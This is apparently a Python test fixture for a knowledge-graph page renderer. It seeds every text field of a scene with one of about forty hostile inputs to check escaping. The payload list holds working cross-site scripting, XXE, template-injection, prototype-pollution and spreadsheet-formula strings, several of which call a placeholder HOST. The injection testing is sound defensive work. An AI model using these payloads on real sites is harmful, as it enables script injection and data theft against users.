"""Texts that attack a page, and the three cases with one of them in every field."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from typing import Any, Final

from finkg.errors import Text
from finkg.view.scene import Document, Doubt, Mark, Scene, Scope

from .scene import ARTICLE, build

#: HOST stands for the address of a server that listens; whatever runs sets `window.cracked`.
PAYLOADS: Final = {
    "script": "<script>window.cracked=1;fetch('HOST/a')</script>",
    "script-from-afar": "<script src=HOST/b.js></script>",
    "end-of-script": "</script><script>window.cracked=1</script>",
    "end-of-style": "</style><script>window.cracked=1</script>",
    "end-of-title": "</title><script>window.cracked=1</script>",
    "end-of-text-area": "</textarea></noscript><img src=HOST/c onerror=window.cracked=1>",
    "comment": "--><script>window.cracked=1</script><!--",
    "declaration": "]]><!DOCTYPE html [<!ENTITY x SYSTEM 'HOST/d'>]>&x;",
    "image": "<img src=HOST/e onerror=window.cracked=1>",
    "attribute": '" autofocus onfocus=window.cracked=1 x="',
    "attribute-of-one-quote": "' onmouseover='window.cracked=1",
    "grave": "`onclick=window.cracked=1`",
    "vector": "<svg onload=window.cracked=1><use href='HOST/f#x'/></svg>",
    "vector-style": "<svg><style>@import 'HOST/g';</style></svg>",
    "mathematics": "<math href='javascript:window.cracked=1'><mi>x</mi></math>",
    "frame": "<iframe srcdoc='<script>parent.cracked=1</script>' src=HOST/h></iframe>",
    "object": "<object data=HOST/i></object><embed src=HOST/j>",
    "form": "<form action=HOST/k><button autofocus>x</button></form>",
    "base": "<base href=HOST/><meta http-equiv=refresh content='0;url=HOST/l'>",
    "sheet": "<link rel=stylesheet href=HOST/m><link rel=prefetch href=HOST/n>",
    "style": "x;background:url(HOST/o)}*{background:url(HOST/p)",
    "style-attribute": "<b style='background:url(HOST/q)'>x</b>",
    "javascript-address": "javascript:window.cracked=1//",
    "javascript-address-disguised": "JaVa\tScript:window.cracked=1//",
    "data-address": "data:text/html,<script>opener.cracked=1</script>",
    "address": "HOST/r?x=1&y=2#z",
    "relative-address": "//HOSTNAME/s",
    "template": "{{7*7}}{% for x in y %}${7*7}#{7*7}<%= 7*7 %>[[${7*7}]]",
    "template-constructor": "{{constructor.constructor('window.cracked=1')()}}",
    "separators": "a\u2028window.cracked=1\u2029b\u0085c",
    "null": "a\0<scr\0ipt>window.cracked=1</script>\ufffd\ufeff",
    "right-to-left": "\u202egnp.exe\u202c \u2067x\u2069\u200f\u061c",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘",
    "prototype": "__proto__",
    "constructor": "constructor",
    "to-string": "toString",
    "has-own-property": "hasOwnProperty",
    "percent": "%3Cscript%3E%00%zz%u2028&lt;b&gt;&#60;&amp;amp;",
    "backslash": "\\u003cscript\\u003e\\x3c\\",
    "replacement": "$&$1$`$'$$",
    "formula": "=HYPERLINK(\"HOST/t\")+cmd|'/C calc'!A0",
    "blank": "  a  b\tc ",
    "long": "<b onclick=window.cracked=1>长文字" * 400,
}

#: Names of closed lists, numbers, colours and shapes, which are no free texts.
CLOSED: Final = {
    *("layer", "standing", "state", "stance", "rank", "strength", "fill", "outline", "shape"),
    *("reliability", "tier_at_most", "language", "iri", "version", "doubts", "sure_from"),
    *("sure_until", "date_of_scene", "as_of_scope", "preferred_side", "term"),
}
#: Fields that are an id, or refer to one; by type and name what they name.
NAMES: Final = {
    ("Kind", "id"): "kind",
    ("Node", "kind"): "kind",
    ("Relation", "id"): "relation",
    ("PlausibilityRule", "id"): "rule",
    ("Flag", "rule"): "rule",
    ("Doubt", "rule"): "rule",
    ("Node", "id"): "node",
    ("Thing", "id"): "node",
    ("Edge", "id"): "statement",
    ("Fact", "id"): "statement",
    ("Claim", "id"): "claim",
    ("Source", "id"): "source",
    ("Evidence", "source"): "source",
    ("Dispute", "id"): "dispute",
    ("Dispute", "preferred"): "claim",
    ("Dispute", "sides"): "claim",
    ("Inference", "rule"): "inference",
    ("Inference", "premises"): "claim",
    ("Mark", "claims"): "claim",
}
for _type in ("Edge", "Fact", "Claim"):
    NAMES[_type, "subject"] = "node"
    NAMES[_type, "relation"] = "relation"
    NAMES[_type, "claims"] = "claim"
NAMES["Edge", "value"] = "node"
#: These ids the page itself knows by name; the others of their sort are hostile.
KNOWN: Final = {("relation", "affectedBy"), ("kind", "product"), ("kind", "regulation")}


class Fouled:
    """A scene with a text in each field of its own: the text, then where it stands."""

    def __init__(self, payload: str, scene: Scene | None = None) -> None:
        self.payload = payload
        self._names: dict[tuple[str, str], str] = {}
        self.scene = self._scene(scene or build())

    def name(self, what: str, name: str) -> str:
        """The hostile id of something; the first node's is the text itself."""
        if not name or (what, name) in KNOWN:
            return name
        if (what, name) not in self._names:
            known = sum(each == what for each, _ in self._names)
            mark = "" if what in ("kind", "relation", "source", "claim") else f" {what[0]}"
            number = f" {known}" if known else ""
            plain = what == "node" and not known
            self._names[what, name] = self.payload + ("" if plain else mark + number)
        return self._names[what, name]

    def text(self, where: str) -> str:
        return f"{self.payload}«{where}»"

    def _scene(self, scene: Scene) -> Scene:
        typed = tuple(node._replace(types=(Text("类", "type"),)) for node in scene.nodes)
        fouled: Scene = self._fouled(replace(scene, nodes=typed), "Scene", "")
        quote = self.text("Evidence.quote")
        document = Document(
            f"{quote}\n\n{self.text('Document.text')}",
            self.text("Document.licence"),
            (Doubt(self.name("rule", "year-concentration"), self._both("Doubt.explanation")),),
            (Mark(0, len(quote), (0,)),),
        )
        article = self.name("source", ARTICLE)
        sources = tuple(
            replace(source, document=document) if source.id == article else source
            for source in fouled.sources
        )
        claims = tuple(
            claim._replace(
                rank="PreferredRank",
                evidence=tuple(
                    e._replace(start=0, end=len(quote), quote=quote)
                    if e.source == article and not e.cited
                    else e
                    for e in claim.evidence
                ),
            )
            for claim in fouled.claims
        )
        without = replace(sources[0], document=None, title=self.text("Scope.without"))
        return replace(
            fouled,
            date=scene.date,
            sources=sources,
            claims=claims,
            scope=Scope("2020-12-31", without=(without,)),
        )

    def _both(self, where: str) -> Text:
        return Text(self.text(f"{where}.zh"), self.text(f"{where}.en"))

    def _fouled(self, value: Any, kind: str, field: str) -> Any:
        where = (kind, field)
        if isinstance(value, Text):
            return self._both(f"{kind}.{field}")
        if isinstance(value, str):
            if where in NAMES:
                return self.name(NAMES[where], value)
            if field in CLOSED or where in (("Source", "kind"), ("Claim", "kind")):
                return value
            return self.text(f"{kind}.{field}")
        if is_dataclass(value) and not isinstance(value, type):
            named = type(value).__name__
            return replace(
                value,
                **{
                    f.name: self._fouled(getattr(value, f.name), named, f.name)
                    for f in fields(value)
                },
            )
        if isinstance(value, tuple):
            if names := getattr(value, "_fields", None):
                named = type(value).__name__
                made = (
                    self._fouled(each, named, name) for name, each in zip(names, value, strict=True)
                )
                return type(value)(*made)
            return tuple(self._fouled(each, kind, field) for each in value)
        return value
